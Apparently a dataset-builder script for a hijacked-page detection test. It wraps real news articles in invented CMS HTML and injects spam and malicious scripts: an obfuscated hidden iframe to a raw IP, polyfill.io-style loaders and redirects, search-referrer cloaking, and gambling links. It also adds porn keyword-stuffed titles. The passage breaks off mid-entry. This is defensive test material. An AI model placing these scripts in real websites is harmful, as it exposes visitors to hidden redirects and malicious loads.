"""Build real-cases-v24: verbatim captured text (search tool, corpus pages/issues) placed in invented CMS shells.
Run: python build_real.py  (writes html/ and truth.jsonl next to this file; deterministic)."""
import html as H, json, os, re

HERE = os.path.dirname(os.path.abspath(__file__))
GLOSS = re.compile(r"\((?:[a-zāáǎàēéěèīíǐìōóǒòūúǔùǖǘǚǜü]+)\)")

def esc(s):
    return H.escape(s, quote=False)

SHELLS = [
 # 0: portal news shell
 lambda p: f"""<!DOCTYPE html>
<html lang="zh-CN"><head><meta charset="utf-8"><title>{esc(p['page_title'])}</title>{p.get('head','')}</head>
<body><div class="top"><a href="/">首页</a> | <a href="/news/">新闻</a> | <a href="/about/">关于我们</a></div>
<div class="crumb">{esc(p.get('crumb','当前位置：首页 > 新闻 > 正文'))}</div>
<div class="article"><h1>{esc(p['h1'])}</h1>
<div class="info">{esc(p.get('byline',''))}</div>
<div class="content">{''.join('<p>'+esc(x)+'</p>' for x in p['paras'])}</div></div>
{p.get('tail','')}<div class="foot">版权所有 | 联系我们 | 网站地图</div></body></html>
""",
 # 1: table-layout old CMS shell
 lambda p: f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset={p.get('enc','utf-8')}">
<title>{esc(p['page_title'])}</title>{p.get('head','')}</head><body>
<table width="960" align="center"><tr><td class="logo">{esc(p.get('masthead','新闻中心'))}</td></tr>
<tr><td class="nav">{esc(p.get('crumb','当前位置：首页 > 新闻中心 > 正文'))}</td></tr>
<tr><td><div class="title">{esc(p['h1'])}</div><div class="sub">{esc(p.get('byline',''))}</div>
<div id="zoom">{'<br>'.join(esc(x) for x in p['paras'])}</div></td></tr>
<tr><td class="bottom">{p.get('tail','')}Copyright 本站 All Rights Reserved</td></tr></table></body></html>
""",
 # 2: english / indonesian blog shell
 lambda p: f"""<!doctype html>
<html lang="{p['lang']}"><head><meta charset="utf-8"><title>{esc(p['page_title'])}</title>{p.get('head','')}</head>
<body><header><nav><a href="/">Home</a> <a href="/news">News</a></nav></header>
<main><article><h1 class="entry-title">{esc(p['h1'])}</h1><p class="meta">{esc(p.get('byline',''))}</p>
<div class="entry-content">{''.join('<p>'+esc(x)+'</p>' for x in p['paras'])}</div></article>
<aside><h3>Related</h3><ul><li><a href="/a">More news</a></li></ul></aside></main>
<footer>&copy; All rights reserved.</footer></body></html>
""",
]

PAGES = []
def add(**k):
    PAGES.append(k)

# ---------------- hijacked: traditional-script mirrors with pinyin glosses (4) ----------------
MIRRORS = [
 ("http://www.yqzksb.com/html/zhengfa/2020_11/03/14126006.html", "新華社", "陳國洲", None,
  ["新華社重慶11月2日電(記者陳國洲)記者從重慶市公安局了解到,重慶市南岸區(qū)警方近日破獲一起特大跨境網(wǎng)絡(luò)賭博案,共抓獲犯罪嫌疑人166人,查扣凍結(jié)涉案銀行賬戶和移動(dòng)支付賬戶1682個(gè),凍結(jié)一大批涉案資金。",
   "經(jīng)查,該犯罪團(tuán)伙職責(zé)分工明確,在境外架設(shè)服務(wù)器,開設(shè)專用的賭博App,在境內(nèi)發(fā)展多級(jí)代理人,由各級(jí)代理人誘騙、招攬、吸引賭客賭博。該團(tuán)伙通過非法購買銀行卡、身份證等證件,對(duì)賭資層層流轉(zhuǎn),以規(guī)避監(jiān)管和警方調(diào)查。"]),
 ("http://www.dd-jfmychem.com.cn/cnyz/yzyw/202509/c61b370535c24c3ca6c2f1a6f82f2576.shtml", None, None, None,
  ["今日永州訊 9月23日上午,市委副書記、市長陳愛林主持召開市政府第78次常務(wù)會議,傳達學(xué)習(xí)習(xí)近平總書記近期重要講話重要指示精神,研究“湘超聯(lián)賽”永州賽事、籌辦省旅發(fā)大會、“十五五”規(guī)劃等有關(guān)工作。",
   "會議強調(diào),要認真學(xué)習(xí)領(lǐng)會習(xí)近平總書記在聽取紀念中國人民抗日戰(zhàn)爭暨世界反法西斯戰(zhàn)爭勝利80周年活動總結(jié)報告時的重要講話精神,大力傳承和弘揚偉大抗戰(zhàn)精神,激勵市政府系統(tǒng)廣大干部立足崗位、實干擔(dān)當,努力在推動高質(zhì)量發(fā)展上展現(xiàn)新作為。"]),
 ("http://kislak.org/zxzx/ztzl/rdzt/2022lh/jjlh/8369749.html", None, None, "孫勇:開局即決戰(zhàn) 年初就沖刺",
  ["1月15日上午,市八屆人大一次會議剛閉幕,市委副書記、市長孫勇即主持召開2022年市《政府工作報告》目標(biāo)任務(wù)分解動員部署會,強(qiáng)調(diào)從現(xiàn)在開始、從年初伊始,全市上下要上緊發(fā)條、拉滿弓弦,開啟加速度、吹響沖鋒號,開局即決戰(zhàn)、年初就沖刺,奮力推進(jìn)各項(xiàng)目標(biāo)任務(wù)落實(shí),確保首季開門紅。市領(lǐng)導(dǎo)范榮暉、楊龍、朱策、伍春宏、張正竹、劉力、江卓琪、戴煒,市政府秘書長陳立青等參加。"]),
 ("http://shaoyangjfsz.cn/e/20190216/5c67fcdb45c76.shtml", None, None, "全國高校校友工作第二十五次研討會在廣西大學(xué)召開",
  ["2018年12月26日至27日,由中國高等教育學(xué)會校友工作研究分會主辦、廣西大學(xué)校友總會承辦的全國高校校友工作第25次研討會在廣西大學(xué)召開。來自全國292所高校的337名代表參會。",
   "開幕式上,中國高等教育學(xué)會秘書處辦公室副主任李燕、廣西大學(xué)校長趙躍宇出席并致辭。延邊大學(xué)、北京體育大學(xué)、西安建筑科技大學(xué)、集美大學(xué)、煙臺大學(xué)、山西農(nóng)業(yè)大學(xué)、廣州大學(xué)等高校的校領(lǐng)導(dǎo)出席。開幕式由中國高教學(xué)會校友工作研究分會常務(wù)副會長兼秘書長、浙江大學(xué)校長助理胡煒主持。"]),
]
for (u, src, au, h1, paras) in MIRRORS:
    add(url=u, shell=0, lang="zh-hant", hijacked=True, injections=["traditional-mirror-pinyin-gloss"], spam=[],
        page_title=h1, h1=h1, title=(GLOSS.sub("", h1) if h1 else None), source=src, author=au, paras=paras, gloss=True,
        origin="search tool, corpus pages: traditional-script copy of a mainland report on an unrelated host, pinyin glosses mixed into characters (text drops the glosses)")

# ---------------- hijacked: porn keyword-stuffed title line over a real article (4) ----------------
add(url="http://www.cliffsofdurango.com/news_show.aspx?id=8297", shell=1, lang="zh-hant", hijacked=True, gloss=True,
    injections=["keyword-stuffed-porn-title"], spam=["精品无码爆乳一区二区三区国产", "午夜精品人妻一区二区三区"],
    page_title="精品无码爆乳一区二区三区国产_成人亚洲午夜精品一区二区_国产精品成人AV片免费下载_精品一区二区三区免费毛片爱香港_午夜精品人妻一区二区三区",
    masthead="精品无码爆乳一区二区三区国产_成人亚洲午夜精品一区二区_国产精品成人AV片免费下载_精品一区二区三区免费毛片爱香港_午夜精品人妻一区二区三区",
    h1="G20教育對話在京舉行", title="G20教育對話在京舉行", byline="[日期:2016-11-15] 作者:曹瑩 2044 次瀏覽 [字體: ]", date="2016-11-15", author="曹瑩",
    source="中國教育部網站",
    paras=["教育應(yīng)著眼于人類社會未來發(fā)展",
           "由中國教育科學(xué)研究院、經(jīng)濟合作與發(fā)展組織(OECD)共同主辦的G20教育對話今天在北京舉行。來自G20成員和嘉賓國及地區(qū)的150余位教育官員、專家學(xué)者圍繞主題“面向教育2030的教育研究、決策與創(chuàng)新”進行深度對話。",
           "教育部副部長杜占元出席開幕式并講話。他表示,當(dāng)今世界各國教育的發(fā)展,不僅要基于對過去人類知識和技能的傳遞,還應(yīng)面向當(dāng)下經(jīng)濟社會發(fā)展的現(xiàn)實需求,更應(yīng)著眼于人類社會未來的發(fā)展趨向。"],
    tail="<div class=\"src\">來源:中國教育部網(wǎng)站</div>",
    origin="search tool, corpus pages: porn keyword list as site title/masthead above a copied (traditional, glossed) education news item")
add(url="http://by1520.com/2012-02/27/content_7903947.htm", shell=0, lang="zh-hant", hijacked=True, gloss=True,
    injections=["keyword-stuffed-porn-title"], spam=["蜜色影院", "人妻教师痴汉电车波多野结衣"],
    page_title="{蜜色影院}-亚洲欧美一区二区三区不卡,最新国产精品视频每日更新,日韩欧美高清播放器,色多多国产中文字幕在线,人妻教师痴汉电车波多野结衣,艳妇乳肉豪妇荡乳av无码福利",
    h1="一個(gè)山區(qū)小學(xué)教師的退休典禮", title="一個山區小學教師的退休典禮", crumb="您所在的位置:文明風(fēng)> 圖片新聞 > 正文",
    byline="2012-02-27 08:17 來源:新華網(wǎng)", date="2012-02-27", source="新華網",
    paras=["張其昌是河南省洛陽(yáng)市伊濱區(qū)寇店鎮(zhèn)封溝村小學(xué)的一名普通教師。",
           "2月26日是年滿60歲的張其昌老師退休的日子。位于伏牛山區(qū)的這個(gè)小山村,鑼鼓喧天,鞭炮齊鳴。學(xué)校的30多名師生和村里的群眾,為他們尊敬的張老師舉行了一場(chǎng)在當(dāng)?shù)乜胺Q隆重的退休典禮。"],
    head="<meta name=\"keywords\" content=\"蜜色影院,人妻教师痴汉电车波多野结衣\">",
    origin="search tool, corpus pages: porn keyword-stuffed <title> (also in meta keywords here) over a copied Xinhua photo story")
add(url="http://m.unuwire.com/n3/2016/0304/c94474-9025305.html", shell=2, lang="ja", hijacked=True,
    injections=["keyword-stuffed-porn-title"], spam=["96sao精品视频免费观看", "国产午夜福利在线机视频"],
    page_title="免费av片在线观看网站,96sao精品视频免费观看,国产午夜不卡Av免费,国产午夜福利在线机视频",
    h1="全人代代表、「部長通路」で民衆の関心事に答える", title="全人代代表、「部長通路」で民衆の関心事に答える",
    byline="人民網日本語版 2016年03月04日16:42", date="2016-03-04", source="人民網日本語版",
    paras=["「黃部長こんにちは!一言お願いします!」3月3日午後、首都北京の中心部にある人民大會堂北大ホールの萬人大會堂に通じる赤い絨毯で、中央紀律委員會副書記、監察部(省)の黃樹賢部長を正面から迎えると、他の大勢の記者も大挙して黃部長を囲った。人民日報が伝えた。",
           "この數十メートルの赤い絨毯は「部長通路」と呼ばれる。部長(大臣)クラスの人物が會場に入場する際に「避けては通れない道」となっているためで、必然的に両會(全國人民代表大會?全國政治協商會議)記者が毎年ここで部長を「包囲」し、報道合戦を繰り広げる。今年は「部長通路」は例年よりもさらに開放的で、報道素材もより多くなるとメディアの間で広まっていた。"],
    origin="search tool, corpus pages: Chinese porn keyword title over a Japanese-language news copy")
add(url="http://m.lbxzyy.com/news/kx/201411/t20141113_1706185.html", shell=1, lang="zh-hant", hijacked=True, gloss=True,
    injections=["keyword-stuffed-porn-title"], spam=["亚洲视屏在线观看", "九九九热精品免费视频观看"],
    page_title="亚洲视屏在线观看,国产精品电影一区二区,久久久情,亚洲精品成人悠悠色影视,九九九热精品免费视频观看,久久久国产精品电影,日韩网站在线免费观看",
    masthead="亚洲视屏在线观看,国产精品电影一区二区,久久久情,亚洲精品成人悠悠色影视,九九九热精品免费视频观看,久久久国产精品电影,日韩网站在线免费观看",
    h1="日政府聯(lián)絡(luò)組就中國(guó)漁船捕撈珊瑚召開(kāi)首次會(huì)議", title="日政府聯絡組就中國漁船捕撈珊瑚召開首次會議",
    crumb="新聞?lì)l道 > 快訊 > 正文", byline="2014-11-13 15:19 來(lái)源:環(huán)球時(shí)報(bào)-環(huán)球網(wǎng)", date="2014-11-13", source="環球時報-環球網",
    paras=["據(jù)日本《讀賣新聞》11月13日?qǐng)?bào)道,針對(duì)近日大量中國(guó)漁船在日本小笠原群島附近海域“偷捕珊瑚”的問(wèn)題,為共享信息、強(qiáng)化合作,日本東京都政府、外務(wù)省、海上保安廳、水產(chǎn)廳及小笠原村的負(fù)責(zé)人日前組成聯(lián)絡(luò)組。據(jù)報(bào)道,13日,聯(lián)絡(luò)組召開(kāi)了首次會(huì)議。"],
    origin="search tool, corpus pages: porn keyword list as title/masthead over a copied (traditional, glossed) news item")

# ---------------- hijacked: real injected code from public repositories / threads in a real clean page (11) ----------------
HEXIF = ("<script>var _$ = ['\\x69\\x66\\x72\\x61\\x6d\\x65', '\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x31\\x32\\x33\\x2e\\x35\\x39\\x2e\\x38\\x34\\x2e\\x31\\x36\\x31\\x3a\\x38\\x31\\x2f\\x61\\x64\\x2e\\x68\\x74\\x6d\\x6c'];\n"
         "var a = document.createElement(_$[0]);a.src = _$[1];a.width = 0x0;a.height = 0x0;document.body.appendChild(a);</script>")
add(url="http://jyt.guizhou.gov.cn/xwzx/gzdt/201712/t20171206_16122982.html", shell=0, lang="zh", hijacked=True, kind="real-injection-in-real-page",
    injections=["hex-array-hidden-iframe"], spam=["\\x69\\x66\\x72\\x61\\x6d\\x65"], tail=HEXIF,
    page_title="第七届中国-东盟教育交流周新闻发布会在贵阳举行", h1="第七届中国-东盟教育交流周新闻发布会在贵阳举行", title=None,
    paras=["8月12日下午,省政府新闻办、省教育厅、省外事办在贵阳联合举办了第七届中国-东盟教育交流周新闻发布会。省教育厅厅长、第七届中国-东盟教育交流周筹委会副主任霍健康、省外事办公室主任、第七届中国-东盟教育交流周筹委会副主任袁惠民、省教育厅副厅长级督学、第七届中国-东盟教育交流周筹委会副主任杨勇出席会议并发布交流周相关信息,会议由省政府新闻办专职副主任哈思挺主持。霍健康、袁惠民、杨勇回答了记者提问。",
           "霍健康厅长介绍,第七届中国-东盟教育交流周将于9月1日至5日在我省举行,本届活动以“友邻相携、教育惠民”为主题。本届交流周除开幕式外,将在贵阳、遵义、黔南三地举办分会场活动,将举办高官对话、大学校长国际合作研讨会、教育官员培训峰会、大学生论坛、青少年体育文化节等20余项活动,活动围绕职业教育、民办教育、合作办学、青少年交流、文化交流及产学研合作等开展深度讨论。"],
    origin="composite: page text from search tool (corpus pages) + hex-array hidden-iframe injection quoted in uBlockOrigin/uAssets PR #10997 (verbatim)")

LINKS = ("<div class=\"links\"><h3>友情链接</h3><ul>\n"
 "<li><a href=\"http://www.vip0088.so/\" target=\"_blank\">新2网址</a></li>\n"
 "<li> <a href=\"http://finance.ifeng.com/a/20171114/15791261_0.shtml\" target=\"_blank\">申博娱乐</a></li>\n"
 "<li> <a href=\"http://sports.163.com/17/1121/15/D3PCCL1R0005876J.html\" target=\"_blank\">uedbet</a></li>\n"
 "<li> <a href=\"http://www.tianya.cn/104647404\" target=\"_blank\">博狗体育</a></li>\n"
 "<li> <a href=\"http://www.51-gg.com/\" target=\"_blank\">新葡京网址</a></li>\n"
 "<li> <a href=\"http://jpg88.net\" target=\"_blank\">金亚洲</a></li>\n"
 "</ul></div>\n")
add(url="https://www.xzit.edu.cn/11/a3/c5991a201123/page.htm", shell=0, lang="zh", hijacked=True, kind="real-injection-in-real-page",
    injections=["sold-friend-links-block"], spam=["新2网址", "申博娱乐", "博狗体育", "新葡京网址"], tail=LINKS,
    page_title="徐州工程学院龙湖大讲堂揭牌", h1="徐州工程学院龙湖大讲堂揭牌", title=None,
    paras=["10月17日下午,徐州工程学院龙湖大讲堂揭牌仪式在中心校区学生剧场举行。江苏省社科联党组书记、常务副主席张新科,校党委书记刘洋、校长张农、校党委副书记李苏北、副校长王逢博出席仪式。全校400余名师生参加活动。揭牌仪式由副校长王逢博主持。",
           "揭牌仪式上,张农校长致辞。他指出,打造“龙湖大讲堂”是学校迈向一流应用型大学的重要文化举措,希望通过大讲堂开展的系列讲座,拓展师生学术视野,提升学校文化育人质量。",
           "随后,张新科与刘洋共同为“龙湖大讲堂”揭牌,标志着这一校园文化品牌正式启动。",
           "“龙湖大讲堂”由校社科处、团委共同主办,是学校落实立德树人根本任务、推动高质量人才培养的重要举措。今后,大讲堂将持续邀请知名文化学者来校讲学,提升学校文化氛围,服务师生全面成长与发展。"],
    origin="composite: page text from search tool (corpus pages) + sold-link entries verbatim from a public committed page's 友情链接 list (find_string id 25729787544)")

POPUP = ("<script>\n\t$(\"body\").append('<div class=\"King_Chance_Layer\">' +\n"
 "\t\t'<div class=\"King_Chance_LayerCont\" style=\"display:none;\">' +\n"
 "\t\t'<div class=\"King_Chance_Layer_Close\">Close</div>' +\n"
 "\t\t'<div class=\"King_Chance_Layer_Title\">本 站 推 荐</div>' +\n"
 "\t\t'<div class=\"King_Chance_Layer_Btn\">' +\n\t\t'<ul>' +\n"
 "\t\t'<li><a href=\"#\">信誉担保</a></li>' +\n\t\t'<li><a href=\"#\">百倍赔率</a></li>' +\n"
 "\t\t'<li><a href=\"#\">百家乐</a></li>' +\n\t\t'<li><a href=\"#\">体育彩票</a></li>' +\n"
 "\t\t'<li><a href=\"#\">首充返利</a></li>' +\n\t\t'</ul>' +\n\t\t'</div>' +\n"
 "\t\t'<div class=\"King_Chance_Layer_Content\">' +\n\t\t'<ul>' +\n"
 "\t\t'<li><a href=\"https://y52003.com/\" target=\"_blank\"><img src=\"https://i.niupic.com/images/2019/07/13/_67.jpg\" /></a></li>' +\n"
 "\t\t'</ul>' +\n\t\t'</div>' +\n\t\t'</div>' +\n\t\t'</div>');\n"
 "\t$(document).ready(function () {\n\tsetTimeout(\"King_Chance_Layer_Pop()\", 5000);\n\t});\n</script>\n")
add(url="https://news.buaa.edu.cn/info/1002/23556.htm", shell=1, lang="zh", hijacked=True, kind="real-injection-in-real-page",
    injections=["js-appended-float-layer"], spam=["首充返利", "百倍赔率", "y52003.com"], tail=POPUP,
    page_title="第三届海峡两岸暨香港、澳门高校现代书院制教育论坛在澳门大学召开", h1="第三届海峡两岸暨香港、澳门高校现代书院制教育论坛在澳门大学召开", title=None,
    masthead="北航新闻网",
    paras=["北航新闻网8月2日电(通讯员 宋珊珊)近日,第三届海峡两岸暨香港、澳门高校现代书院制教育论坛在澳门大学召开。校党委副书记程基伟,学生处、相关书院老师、学生代表参加了论坛。",
           "论坛开幕式上,程基伟副书记应邀与澳门大学倪明选副校长、程海东副校长及高校书院联盟成员代表共同为本届论坛剪彩。",
           "论坛期间,我校作为书院联盟秘书处单位,主持召开了高校书院联盟理事会,讨论确定联盟合作项目,确定下届论坛承办单位,并商议修订了高校书院联盟章程。",
           "高校现代书院制教育论坛于2014年7月由我校首次倡导举办,同期成立高校书院联盟,联盟秘书处设在我校知行书院。论坛每年举行一次,至今已举办三届。前两届论坛均由我校承办,第三届论坛由澳门大学承办。"],
    origin="composite: page text from search tool (corpus pages) + jQuery-appended gambling float layer, verbatim but abridged to one image row, from a public committed script (find_string id 29580437447)")

UAJS = ("<script>\nfunction check_tiaozhuan() {\n  var _isMobile = navigator.userAgent.match(\n"
 "    /(phone|pad|pod|iPhone|iPod|ios|iPad|Android|Mobile|BlackBerry|IEMobile|MQQBrowser|JUC|Fennec|wOSBrowser|BrowserNG|WebOS|Symbian|Windows Phone)/i\n  );\n"
 "  if (_isMobile) {\n    var _curHost = window.location.host,\n      _ref = document.referrer,\n      _redirectURL = \"\",\n"
 "      _kuurzaBitGet = \"https://kuurza.com/redirect?from=bitget\",\n      _rnd = Math.floor(Math.random() * 100 + 1),\n"
 "      _date = new Date(),\n      _hours = _date.getHours();\n  }\n}\n</script>")
add(url="https://www.svchr.edu.cn/info/1062/1465.htm", shell=1, enc="gbk", lang="zh", hijacked=True, kind="real-injection-in-real-page",
    injections=["ua-mobile-redirect-script"], spam=["kuurza.com/redirect?from=bitget"], head=UAJS,
    page_title="学院召开2023年春季开学工作协调会", h1="学院召开2023年春季开学工作协调会", title="学院召开2023年春季开学工作协调会",
    paras=["2月16日,学院在1教-A502会议室召开2023年春季开学工作协调会。学院党委书记刘建辉,党委副书记、院长黄昌平,党委副书记、工会主席李华,副院长熊骥、申奎、罗天蔚、章荣,纪委书记李雁梅以及各处室、二级学院负责人参加会议,会议由黄昌平主持。",
           "会上,各部门就开学前后的工作进行了沟通,分管领导对具体工作进行了部署。黄昌平指出,要聚焦“双高”建设、“诊改”回访、项目建设等工作,进一步深化改革,统筹抓好疫情防控、招生就业、服务社会、校园安全等工作,落实落地开校各项任务。刘建辉强调,一是要提振精神、做好工作,二是要提高要求、深抓党建,三是要提速建设、务求实效,四是要加强学生管理、提升质量,五是要做好项目建设和新项目申报工作。"],
    origin="composite: page text from search tool (corpus pages) + polyfill.io mobile-redirect function head quoted verbatim in a public write-up (find_string id 47383966834; closing braces added)")

MQ = ("<script>\nfunction MqMqY(e){var t=\"\",n=r=c1=c2=0;while(n<e.length){r=e.charCodeAt(n);if(r<128){t+=String.fromCharCode(r);n++}else if(r>191&&r<224){c2=e.charCodeAt(n+1);t+=String.fromCharCode((r&31)<<6|c2&63);n+=2}else{c2=e.charCodeAt(n+1);c3=e.charCodeAt(n+2);t+=String.fromCharCode((r&15)<<12|(c2&63)<<6|c3&63);n+=3}}return t\n}\n"
      "\nfunction HHwbhL(e){\nvar m='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';var t=\"\";return t}\n</script>")
add(url="http://www.lsszq.gov.cn/szq/ldhd/202311/be646bc71df24789be774c16c0941380.shtml", shell=0, lang="zh", hijacked=True, kind="real-injection-in-real-page",
    injections=["charcode-base64-decoder-loader"], spam=["function MqMqY(e)"], tail=MQ,
    page_title="区政府召开第48次常务会议", h1="区政府召开第48次常务会议", title="区政府召开第48次常务会议",
    crumb="首页 > 新闻中心 > 领导活动", byline="信息来源:市中区 发布时间:2023-11-21 11:20 浏览:", date="2023-11-21", source="市中区",
    paras=["11月20日,区长舒东平主持召开区政府十届第48次常务会议。",
           "会议传达学习了习近平总书记在进一步推动长江经济带高质量发展座谈会上的重要讲话精神,并安排部署相关工作。会议指出,推动长江经济带高质量发展是习近平总书记亲自谋划、亲自部署、亲自推动的重大战略,是推动中华民族永续发展的长久大计。各级各部门要提高政治站位,把学习贯彻习近平总书记在进一步推动长江经济带高质量发展座谈会上的重要讲话和习近平总书记来川视察重要指示精神结合起来,在推动高质量发展中加快建设现代化市中区。要夯实绿色安全发展基础,持续打好“蓝天”“碧水”“净土”保卫战,守牢生态安全防线,及时化解环境安全隐患,加快国家生态文明建设示范区创建,推进美丽市中区建设。要积极融入新发展格局,不断建立健全现代产业体系,提升教育、医疗、养老等公共服务能力水平,为推动新时代治蜀兴川再上新台阶贡献市中区力量。"],
    origin="composite: page text from search tool (corpus pages) + decoder functions of the polyfill.io appended loader quoted in polyfillpolyfill/polyfill-service#2873 (MqMqY verbatim; HHwbhL first line verbatim, body cut)")

KW = ("<script>\n  fetch('https://www.googie-anaiytics.com/keywords/vn-keyword.json')\n    .then((_0x1204ac) => _0x1204ac.json())\n    .then((_0x318df9) => {\n"
      "      const _0x3d6056 = checkKeywords(_0x318df9)\n      _0x3d6056 &&\n        _0x2723e2 !== '' &&\n          loadJS(\n"
      "            'https://www.googie-anaiytics.com/html/checkcachehw.js?origin=kwvnn',\n            function () {\n              if (usercache == true) {\n"
      "                window.location.href = _0x2723e2\n              }\n            }\n          )\n    })\n</script>")
add(url="http://ppid.sragenkab.go.id/?p=hak-publik-atas-pemilu", shell=2, lang="id", hijacked=True, kind="real-injection-in-real-page",
    injections=["keyword-fetch-redirect-script"], spam=["googie-anaiytics.com/keywords/vn-keyword.json"], head=KW,
    page_title="HAK PUBLIK ATAS PEMILU DAN PEMILIHAN", h1="HAK PUBLIK ATAS PEMILU DAN PEMILIHAN", title="HAK PUBLIK ATAS PEMILU DAN PEMILIHAN", byline="Category : Berita",
    paras=["Komisi Informasi Pusat telah menerbitkan Peraturan Komisi Informasi Nomor 1 Tahun 2019 tentang Standar Layanan dan Prosedur Penyelesaian Sengketa Informasi Pemilihan Umum dan Pemilihan. Tujuan diterbitkannya peraturan ini salah satunya adalah mewujudkan pelayanan dan pengelolaan informasi pemilihan umum dan pemilihan secara cepat dan tepat waktu, biaya ringan, dan cara sederhana.",
           "Selain mengatur hak dan kewajiban penyelenggara (KPU, Bawaslu dan Dewan Kehormatan Penyelenggara Pemilihan), informasi pemilu dan pemilihan, mekanisme memperoleh informasi dan mengajukan keberatan, penyelesaian sengketa, peraturan ini juga menetapkan waktu respon atas permintaan informasi dan tanggapan atas keberatan paling lama 3 hari kerja setelah permintaan informasi dan pengajuan keberatan diterima. Ada percepatan waktu respon bila dibandingkan dengan permintaan informasi badan publik secara umum.",
           "Dengan diterbitkannya Peraturan Komisi Informasi Nomor 1 Tahun 2019 diharapkan penyelenggaraan Pemilihan Umum dan Pemilihan dapat transparan dan akuntabel sehingga meningkatkan partisipasi pemilih serta mencegah disinformasi hoaks."],
    origin="composite: page text from search tool (corpus pages; the page's own category listing) + polyfill.io keyword-check redirect excerpt quoted verbatim in a public analysis file (find_string id 6359370582)")

NSC = "<script type=\"text/javascript\" src=\"https://newsharecounts.s3-us-west-2.amazonaws.com/nsc.js\"></script>"
add(url="http://by.sdcmc.edu.cn/424187/424191/2025/10/35085.html", shell=0, lang="zh", hijacked=True, kind="real-injection-in-real-page",
    injections=["hijacked-third-party-script"], spam=["newsharecounts.s3-us-west-2.amazonaws.com/nsc.js"], tail=NSC,
    page_title="“竞跃韶华、燃动星河”主题体育节", h1="“竞跃韶华、燃动星河”主题体育节", title=None,
    byline="来源\\学前教育与戏剧系 文\\高洁", source="学前教育与戏剧系", author="高洁",
    paras=["为增添校园生机,展现同学们朝气蓬勃的精神面貌,传承体育精神,10月21日,我系在操场举办“竞跃韶华、燃动星河”主题体育节。",
           "本次体育节准备了九个活动项目,其中夹气球跑和杯水传情这两个是具有挑战性的项目,充分考验了同学们之间的默契,随着一声令下,同学们并肩作战,迈向标志胜利的终点,最为充满激情的项目—抢凳子,这一项目同学们的反应能力,让体育节“燃”起来,校园中充满着同学们的欢声笑语,在接下来的环节中,同学们积极参与,展示独属于青春的那份活力。",
           "本次体育节,同学们挥洒汗水,在运动中得到愉快的心情和深刻的友谊,体育节的顺利完成体现出学校对同学们的关怀以及对体育精神传承的重视。"],
    origin="composite: page text from search tool (corpus pages) + the re-registered share-counter script reported in uBlockOrigin/uAssets#3730 (mobile back-button redirect)")

MYH = ("<script>\nvar pcbd_js=\"<iframe src='https://g.myhuiyou.com/' width=100% height=6500px scrolling=no frameborder=0></iframe>\";\n"
 "var mnbd_js=[\"<link rel=stylesheet href=https://g.myhuiyou.com/statics/images/Inaccurate.css>\",\"<script src=https://g.myhuiyou.com/statics/images/Inaccurate.js><\\/script>\"];\n\n"
 "//pc端来自搜索引擎\nif(pdpcmb()==2&&pdref()==1){\n  document.writeln(pcbd_js);\n}\n\n"
 "function pdref(){\n    var regexp=/\\.(sogou|soso|baidu|google|youdao|yahoo|bing|sm|so|biso|gougou|ifeng|ivc|sooule|niuhu|biso|360)(\\.[a-z0-9\\-]+){1,2}\\//ig;\n"
 "    var where =document.referrer;\n    if(regexp.test(where)){\n        return 1; //来自搜索引擎\n    }else{\n        return 2;\n    }\n}\n\n"
 "function pdpcmb(){\n  if (/Android|Windows Phone|webOS|iPhone|iPod|BlackBerry/i.test(navigator.userAgent)) {\n    return 1;//来自移动端请求\n  }else{\n    return 2;//来自pc端请求\n  }\n}\n</script>")
add(url="https://www.culr.edu.cn/pub/news/xxxw/754.htm", shell=1, lang="zh", hijacked=True, kind="real-injection-in-real-page",
    injections=["referrer-ua-cloaking-fullpage-iframe"], spam=["g.myhuiyou.com"], head=MYH,
    page_title="我院体育委员会召开第一届第八次全体理事大会", h1="我院体育委员会召开第一届第八次全体理事大会", title="我院体育委员会召开第一届第八次全体理事大会",
    crumb="您现在的位置: 首页» 学校新闻» 我院体育委员会召开第一届第八次全体理事大会", byline="[发表时间] 2011-09-27           [浏览次数]", date="2011-09-27", source="体育委员会",
    paras=["2011年9月23日,学院体育委员会召开第一届理事会第八次全体大会。体育委员会主任、副院长杨汉平,副院长吴卫平及相关职能部门、各系院领导等参加了会议。",
           "会上,体育委员会秘书长赵子江教授详细介绍了我院2011年第二十五届运动会暨第六届体育节筹备方案,各部门领导就方案进行了讨论,最后确定了各项具体分工。何伟副教授在会上做了贯彻落实《学校体育工作条例》自评报告。院工会刘晓燕汇报一年来我院教职工的各项体育活动;安全工程系杨鑫刚介绍了学生体育工作的经验,安工系总支书记杨志强介绍了体育安全日的经验;高职学院王岩磊介绍了形成校园体育文化氛围的实践与办法。",
           "吴卫平副院长高度肯定了我院近年来的体育工作,并要求在评估中存在的不足要迎头赶上。杨汉平副院长回顾了几年来体育工作的成就和特点,最后强调本届运动会的重点工作和部署安排,要求大家发扬已经形成的良好的工作传统,共同办好运动会暨校园体育节。",
           "(体育委员会)"],
    origin="composite: page text from search tool (corpus pages) + search-referrer/UA cloaking script from a public committed file (find_string id 34054770472; verbatim lines, some branches left out)")

CTOP = ("<script>\n/* 2019.12.16代码1543 20200514*/\n/* 126接口 */\nvar _c_top_001=[\"<script type='text/javascript' src='https://ip.ws.126.net/ipquery'></script>\"];\n"
 "/* 搜索引擎代码 */\nvar regexp=/\\.(sogou|soso|baidu|google|youdao|yahoo|bing|118114|biso|gougou|ifeng|ivc|sooule|niuhu|biso|sm|so)(\\.[a-z0-9\\-]+){1,2}\\//ig;\nvar where =document.referrer;\n"
 "/* 广告代码011 */\nvar _c_top_011=[\"<body><script id='mob' type='text/javascript' charset='utf-8' src='https://kc.jjhaolin.com/x.php?pid=3246'></script><script id='mob' type='text/javascript' charset='utf-8' src='https://kc.jjhaolin.com/d.php?pid=3246'></script></body>\"];\n"
 "/* JS判断电脑移动端代码 */\n var system ={\n win : false,\n mac : false,\n xll : false\n };\n var p = navigator.platform;\n system.win = p.indexOf(\"Win\") == 0;\n system.mac = p.indexOf(\"Mac\") == 0;\n"
 " //跳转语句\n if(system.win||system.mac||system.xll){\n document.write(无);\n }else{\n document.write(_c_top_001+_c_top_002+_c_top_003+_c_top_015);\n }\n</script>")
add(url="https://www.wids.edu.cn/view/29673.html", shell=0, lang="zh", hijacked=True, kind="real-injection-in-real-page",
    injections=["geo-platform-cloaking-ad-loader"], spam=["kc.jjhaolin.com"], tail=CTOP,
    page_title="学校召开2026年春季学期开学工作会议", h1="学校召开2026年春季学期开学工作会议", title=None, source="党委宣传部", author="吴茹梖",
